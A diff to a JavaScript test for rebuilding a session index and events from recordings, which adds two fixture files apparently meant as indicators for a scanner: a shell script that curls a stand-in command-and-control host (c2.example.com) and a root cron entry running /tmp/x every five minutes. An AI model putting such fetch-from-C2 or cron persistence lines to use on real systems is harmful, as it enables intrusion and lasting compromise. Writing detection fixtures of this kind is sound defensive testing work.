@@ -22,6 +22,9 @@ const GOLDENS = join(import.meta.dirname, "..", "goldens", "recordings");
 
 test("index and events rebuilt from the recordings equal those written while the sessions lived", async (t) => {
   const data = dataFolder(t);
+  // What the captures below tell of is looked through for indicators.
+  writeFileSync(join(data, "artifacts", "f1".repeat(32)), "#!/bin/sh\ncurl http://c2.example.com/x\n");
+  writeFileSync(join(data, "artifacts", "c2".repeat(32)), "*/5 * * * * root /tmp/x\n");
   const archivist = await ArchivistChild.start(t, data, { rotateAt: 3000, keep: 100 });
   const talks = ["aaaaaaaaaaaa", "bbbbbbbbbbbb", "cccccccccccc"].map((id) => new Conversation(id));
   const lives = talks.map((talk) => new Live(data, talk.session));
@@ -100,7 +103,8 @@ test("index and events rebuilt from the recordings equal those written while the
     );
 
   const again = join(data, "again");
-  cpSync(join(data, "recordings"), join(again, "recordings"), { recursive: true });
+  for (const one of ["recordings", "artifacts"])
+    cpSync(join(data, one), join(again, one), { recursive: true });
   const context = { uuid: UUID, arch: `linux-${process.arch}-lsb` };
   const options = { context, eventsFolder: join(again, "events"), rotateAt: 1e9 };
   assert.deepEqual(await rebuild(again, options), { sessions: 3, captures: 3, problems: [] });
